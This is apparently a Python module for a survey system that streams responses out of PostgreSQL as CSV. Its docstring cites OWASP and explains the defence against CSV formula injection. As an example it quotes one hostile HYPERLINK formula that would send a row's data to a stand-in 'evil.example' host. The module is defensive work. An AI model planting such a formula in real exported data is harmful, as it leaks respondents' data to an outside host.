"""The CSV export: UTF-8, a header row, one row per response.

PostgreSQL reads each wave's responses in order through a cursor, a batch at a time, with the fixed
cells of a row already text and the answers as the text jsonb writes (``console.sql``, ``export_texts``:
little more work for it than ``COPY`` of the rows). Python decodes a batch's answers with msgspec into a
Struct made for the questionnaire version (:class:`_VersionLines`), scores the outcomes, and makes the
lines a column at a time with C-level operations; the next batch is read while one is written. This
keeps the CSV within half of the speed of PostgreSQL's own ``COPY`` of the same rows
(``benchmarks/export.py``). Each cell is what PostgreSQL's ``->>`` gives for the stored answer (a number
keeps jsonb's text for it: ``1.50`` stays ``1.50``); a multi item has one 1/0 column per choice; a
version without an item (or a choice) leaves its cells empty; and a line is byte for byte what the csv
module writes (a line with a comma, a quote or a line break in a cell is written by it).

A CSV file opened in a spreadsheet runs any cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or a carriage return) as a formula: a respondent's free-text answer
``=HYPERLINK("http://evil.example/?x="&B2,"Click")`` would become a link that sends the row's data away.
As OWASP recommends ("CSV Injection"), such a text cell is written with a ``'`` in front
(:func:`neutralise`), which the spreadsheet shows as text: in the responses, the answers to the free-text
items of each version; in the codebook, every text. Numbers are never touched (a negative answer stays a
number), and the Excel and SPSS files need none of this: they store text as text.
"""

from __future__ import annotations

import csv
import io
import math
import os
from collections.abc import AsyncIterator, Callable, Iterable, Sequence
from itertools import repeat
from operator import attrgetter, itemgetter
from typing import Any, Final

import asyncpg
import msgspec
import numpy as np

from survey.analysis import scoring
from survey.db import console as console_db
from survey.db.questionnaires import QuestionnaireVersion
from survey.exports.plan import STATUS, ExportPlan, exported_items
from survey.exports.rows import BATCH, Progress, Snapshot, score_columns, version_groups

__all__ = ["FORMULA_STARTS", "csv_chunks", "neutralise", "write_csv"]

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection")."""


def neutralise(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs: with a ``'`` in front when it begins with one of
    :data:`FORMULA_STARTS`.

    >>> neutralise("=1+1"), neutralise("-5 kg"), neutralise("fine")
    ("'=1+1", "'-5 kg", 'fine')
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


# -- lines of text ------------------------------------------------------------------------------------

_LOOSE_TYPES: Final = frozenset({int, str, type(None)})
"""What a decimal answer may decode to (a JSON fraction arrives as its text); anything else is read the
slow, exact way."""
_WHOLE_TYPES: Final = frozenset({int, type(None)})
_MEMO_LIMIT: Final = 4096
"""Distinct values remembered per column; most columns have a handful (the memo is emptied beyond)."""
_raw_answers = msgspec.json.Decoder(dict[str, msgspec.Raw])


def _answer_columns(plan: ExportPlan) -> tuple[list[str], list[str | None]]:
    """The item key and the choice (None for a one-answer item) of every answer column, in order."""
    answer = [c for c in plan.columns if c.kind in ("item", "choice")]
    return [c.key or "" for c in answer], [c.choice for c in answer]


def _floats(cells: Sequence[object]) -> list[float]:
    """Numeric answers from their text or number (NaN for none, for text that is no number, and for a
    number beyond a float, which the scores count as missing all the same)."""
    try:
        if set(map(type, cells)) <= _WHOLE_TYPES:  # ints and None: converted in C
            return np.array(cells, dtype=float).tolist()  # type: ignore[no-any-return]
        return [math.nan if c is None else float(c) for c in cells]  # type: ignore[arg-type]
    except (ValueError, OverflowError):
        floats = []
        for c in cells:
            try:
                floats.append(math.nan if c is None else float(c))  # type: ignore[arg-type]
            except (ValueError, OverflowError):
                floats.append(math.nan)
        return floats


def _json_text(raw: msgspec.Raw | None) -> str | None:
    """A stored answer's cell as PostgreSQL's ``->>`` gives it: a string's own text, null as nothing,
    anything else (a number, true, a list) the JSON text jsonb wrote for it."""
    if raw is None:
        return None
    data = bytes(raw)
    if not data or data == b"null":
        return None
    if data[:1] == b'"':
        return msgspec.json.decode(data, type=str)
    return data.decode()


def _multi_answer(raw: msgspec.Raw | None) -> tuple[str, ...] | None:
    """A multi item's stored answer as the choices it holds (its strings), None when it is no list."""
    if raw is None or bytes(raw)[:1] != b"[":
        return None
    return tuple(v for v in msgspec.json.decode(raw) if isinstance(v, str))


class _Memo(dict):  # type: ignore[type-arg]
    """Key → ``make(key)``, each made once and then looked up in C: a column's few distinct values."""

    def __init__(self, make: Callable[[Any], Any]) -> None:
        super().__init__()
        self.make = make

    def __missing__(self, key: Any) -> Any:
        if len(self) >= _MEMO_LIMIT:
            self.clear()
        value = self[key] = self.make(key)
        return value


def _cell(value: object) -> str:
    """A cell's text as the csv module writes the value: nothing for None, else ``str`` (which is
    ``repr`` for a float)."""
    return "" if value is None else str(value)


def _ticks(columns: Sequence[str | None]) -> Callable[[tuple[str, ...] | None], str]:
    """A multi item's cells for one answer, joined by commas: per choice column 1 or 0, blank for a
    choice this version lacks (None in ``columns``); all blank when the answer is no list."""
    blank = "," * (len(columns) - 1)

    def make(answer: tuple[str, ...] | None) -> str:
        if answer is None:
            return blank
        return ",".join("" if c is None else "1" if c in answer else "0" for c in columns)

    return make


def _chosen(values: Sequence[str]) -> Callable[[tuple[str, ...] | None], list[str] | None]:
    """A multi item's answer as the scores read it: the version's choices it holds, in their order."""

    def make(answer: tuple[str, ...] | None) -> list[str] | None:
        return None if answer is None else [v for v in values if v in answer]

    return make


def _guarded(texts: Iterable[str | None]) -> list[str]:
    """Free-text answers as cells, with a ``'`` in front of those a spreadsheet would run
    (:func:`neutralise`)."""
    return ["" if t is None else "'" + t if t.startswith(FORMULA_STARTS) else t for t in texts]


class _ScoreTexts(_Memo):
    """A score → its cell as the csv module writes it; 0.0 and -0.0 are one key but two texts."""

    def __init__(self) -> None:
        super().__init__(_cell)

    def __missing__(self, key: Any) -> Any:
        return _cell(key) if key == 0 else super().__missing__(key)


class _VersionLines:
    """How the responses to one version become lines of the CSV file.

    The answers (jsonb's text of the stored object) are decoded by msgspec into a Struct made for the
    version, one field per item it has among the columns (the item key is the field's name in JSON, so
    keys need not be identifiers), typed by what the item stores: text, a whole number, a number (a
    fraction kept as its text), the choices of a multi item. The cells are what PostgreSQL's ``->>``
    gives, which a Python int written out, or a fraction's text, is. A batch that does not decode to
    those types (an answer stored with another type, by an older version or by hand) is read again the
    slow, exact way, answer by answer (:func:`_json_text`).

    The lines are then made a column at a time, by C-level operations (``attrgetter``, ``map``, ``zip``,
    ``str.join``): a column's cell is looked up by its value in a memo (a column holds few distinct
    values), a multi item's cells by its answer, already joined, a run of columns the version lacks is
    one constant. A line whose cells hold a comma, a quote or a line break, which the csv module would
    quote, is written by the csv module instead, so the file is the same as the csv module writes.
    """

    def __init__(self, plan: ExportPlan, version: QuestionnaireVersion) -> None:
        q = version.definition
        self.definition = q
        self.plan = plan
        own = {i.key: i for i in exported_items(q)}
        own_choices = {
            key: [c.value for c in q.choices_for(i)]
            for key, i in own.items()
            if i.type == "multi" and i.choices is not None
        }
        keys, choices = _answer_columns(plan)
        fields: list[tuple[str, Any, Any]] = []
        rename: dict[str, str] = {}
        field_of: dict[str, str] = {}
        self.multi_fields: list[str] = []
        self.raw_fields: list[str] = []
        self.loose_fields: list[str] = []
        self.commas = len(plan.columns) - 1

        def field(key: str, kind: Any) -> str:
            name = f"a{len(fields)}"
            fields.append((name, kind, None))
            rename[name] = key
            field_of[key] = name
            return name

        # The parts of a line after the head cells, each ("blank", the cells' text), ("item", field
        # name, memo of cells or None for free text) or ("multi", field name, memo of joined cells).
        parts: list[tuple[str, Any, Any]] = []

        def blank(width: int) -> None:
            if parts and parts[-1][0] == "blank":
                width += parts.pop()[1].count(",") + 1
            parts.append(("blank", "," * (width - 1), None))

        n = 0
        while n < len(keys):
            key, choice = keys[n], choices[n]
            if choice is None:
                item = own.get(key)
                if item is None:
                    blank(1)
                elif item.type == "text":
                    parts.append(("item", field(key, str | None), None))
                else:
                    if item.type in ("likert", "integer"):
                        name = field(key, int | None)
                    elif item.type == "decimal":
                        name = field(key, Any)
                        self.loose_fields.append(name)
                    elif item.type in ("choice", "date", "consent"):
                        name = field(key, str | None)
                    else:  # a multi item under a newer version's one-answer column: the JSON text
                        name = field(key, msgspec.Raw)
                        self.raw_fields.append(name)
                    parts.append(("item", name, _Memo(_cell)))
                n += 1
                continue
            width = 1  # the choice columns of one multi item are adjacent
            while (
                n + width < len(keys) and keys[n + width] == key and choices[n + width] is not None
            ):
                width += 1
            mine = own_choices.get(key) if key in own and own[key].type == "multi" else None
            if mine is None:
                blank(width)
            else:
                present = [c if c in mine else None for c in choices[n : n + width]]
                name = field(key, tuple[str, ...] | None)
                self.multi_fields.append(name)
                parts.append(("multi", name, _Memo(_ticks(present))))
            n += width
        self.parts = parts
        self.keys_by_field = rename
        # A score takes few distinct values (a count of right answers over a few totals): each one's
        # text is made once.
        self.score_texts = [_ScoreTexts() for _ in plan.outcomes]
        # Not tracked by the garbage collector: a batch's answers are 50,000 of these, whose tracking cost
        # more than their decoding (1.08 s against 0.40 s for 200,000). They hold only texts, numbers and
        # tuples of texts, so they can be in no reference cycle.
        self.answers_type = msgspec.defstruct(
            f"Answers{version.id}", fields, rename=rename, kw_only=True, gc=False
        )
        self.decoder = msgspec.json.Decoder(self.answers_type, float_hook=str)

        needed: set[str] = set()
        for outcome in q.outcomes.values():
            needed.update(outcome.items or ())
            if outcome.item:
                needed.add(outcome.item)
        columns = set(zip(keys, choices, strict=True))
        # (key, kind, field name, memo of the chosen choices of a multi item)
        self.sources: list[tuple[str, str, str, _Memo | None]] = []
        for key in sorted(needed & field_of.keys()):
            item = own[key]
            name = field_of[key]
            if item.type != "multi":
                kind = "number" if item.type in ("likert", "integer", "decimal") else "text"
                self.sources.append((key, kind, name, None))
            elif name in self.multi_fields and all((key, c) in columns for c in own_choices[key]):
                self.sources.append((key, "multi", name, _Memo(_chosen(own_choices[key]))))

    def _decode(self, texts: list[str]) -> list[Any]:
        """The answers of a batch of responses, each a Struct of this version's fields."""
        try:
            answers = list(map(self.decoder.decode, texts))
        except msgspec.MsgspecError:
            return self._decode_exactly(texts)
        for name in self.loose_fields:
            if not set(map(type, map(attrgetter(name), answers))) <= _LOOSE_TYPES:
                return self._decode_exactly(texts)
        for name in self.raw_fields:
            for a in answers:
                setattr(a, name, _json_text(getattr(a, name)))
        return answers

    def _decode_exactly(self, texts: list[str]) -> list[Any]:
        """The same, answer by answer from the JSON text: for answers of an unexpected type."""
        multi = set(self.multi_fields)
        answers = []
        for text in texts:
            raw = _raw_answers.decode(text)
            values = {
                name: (_multi_answer if name in multi else _json_text)(raw.get(key))
                for name, key in self.keys_by_field.items()
            }
            answers.append(self.answers_type(**values))
        return answers

    def _scores(self, answers: list[Any], heads: list[list[str]]) -> list[list[float | None]]:
        """The outcome scores of these responses, as stored answers would score them."""
        columns: dict[str, Sequence[object]] = {}
        for key, kind, name, memo in self.sources:
            values = list(map(attrgetter(name), answers))
            if kind == "text":
                columns[key] = values
            elif kind == "number":
                columns[key] = _floats(values)
            else:
                columns[key] = list(map(memo.__getitem__, values))  # type: ignore[union-attr]
        status = map(itemgetter(STATUS), heads)
        complete = np.fromiter(map("complete".__eq__, status), dtype=bool, count=len(heads))
        frame = scoring.frame_from_columns(
            self.definition, columns, n=len(heads), complete=complete
        )
        return score_columns(self.plan, self.definition, frame)

    def lines(self, heads: list[list[str]], texts: list[str]) -> list[str]:
        """The CSV lines (without their line break) of these responses to this version."""
        answers = self._decode(texts)
        n = len(answers)
        cells: list[Sequence[str]] = [list(map(",".join, heads))]
        for kind, spec, memo in self.parts:
            if kind == "blank":
                cells.append(list(repeat(spec, n)))
            elif memo is None:  # free text
                cells.append(_guarded(map(attrgetter(spec), answers)))
            else:
                cells.append(list(map(memo.__getitem__, map(attrgetter(spec), answers))))
        if self.plan.outcomes:
            for column, memo in zip(self._scores(answers, heads), self.score_texts, strict=True):
                cells.append(list(map(memo.__getitem__, column)))
        lines = list(map(",".join, zip(*cells, strict=True)))
        text = "".join(lines)
        if text.count(",") == n * self.commas and not any(c in text for c in '"\r\n'):
            return lines
        for at, line in enumerate(lines):
            if line.count(",") != self.commas or any(c in line for c in '"\r\n'):
                lines[at] = self._quoted(heads[at], [column[at] for column in cells[1:]])
        return lines

    def _quoted(self, head: list[str], cells: list[str]) -> str:
        """One line written by the csv module: for a line with a cell it must quote."""
        row = list(head)
        for (kind, _, _), cell in zip(self.parts, cells, strict=False):
            if kind == "blank" or kind == "multi":
                row.extend(cell.split(","))  # cells of 1, 0 or nothing
            else:
                row.append(cell)
        row.extend(cells[len(self.parts) :])  # the scores
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="").writerow(row)
        return buffer.getvalue()


async def _text_batches(
    conn: asyncpg.Connection, plan: ExportPlan, progress: Progress | None, total: int
) -> AsyncIterator[tuple[int, str]]:
    """The export's lines, a batch at a time: (how many responses, their lines as one text); inside a
    transaction."""
    builders = {vid: _VersionLines(plan, v) for vid, v in plan.versions.items()}
    done = 0
    for wave in plan.waves:
        async for batch in console_db.response_texts(
            conn,
            wave.id,
            plan.statuses,
            head=(wave.key, wave.phase, wave.arm),
            panel=plan.has_pairs,
            batch=BATCH,
        ):
            version_ids = [vid for vid, _, _ in batch]
            texts = [text for _, text, _ in batch]
            heads = [head for _, _, head in batch]
            groups = version_groups(version_ids)
            if len(groups) == 1:
                lines = builders[groups[0][0]].lines(heads, texts)
            else:
                lines = [""] * len(batch)
                for vid, positions in groups:
                    assert positions is not None
                    made = builders[vid].lines(
                        [heads[p] for p in positions], [texts[p] for p in positions]
                    )
                    for p, line in zip(positions, made, strict=True):
                        lines[p] = line
            lines.append("")  # a line break after the last line too
            yield len(batch), "\n".join(lines)
            done += len(batch)
            if progress is not None:
                progress(done, total)


# -- the file ---------------------------------------------------------------------------------------


async def csv_chunks(
    conn: asyncpg.Connection,
    plan: ExportPlan,
    *,
    progress: Progress | None = None,
    delivered: list[int] | None = None,
) -> AsyncIterator[bytes]:
    """The CSV (UTF-8, header first), one encoded batch of rows at a time.

    ``delivered``, when given, gets the number of rows appended once the last one was produced.
    """
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow([c.name for c in plan.columns])
    header = buffer.getvalue()
    n = 0
    async with Snapshot(conn, plan) as snapshot:
        async for rows, text in _text_batches(conn, plan, progress, snapshot.total):
            n += rows
            yield (header + text).encode()
            header = ""
    if header:
        yield header.encode()
    if delivered is not None:
        delivered.append(n)


async def write_csv(
    conn: asyncpg.Connection, plan: ExportPlan, path: str | os.PathLike[str], *,
    progress: Progress | None = None,
) -> int:  # fmt: skip
    """Write the CSV to ``path``; return the number of responses."""
    delivered: list[int] = []
    with open(path, "wb") as f:
        async for chunk in csv_chunks(conn, plan, progress=progress, delivered=delivered):
            f.write(chunk)
    return delivered[0]
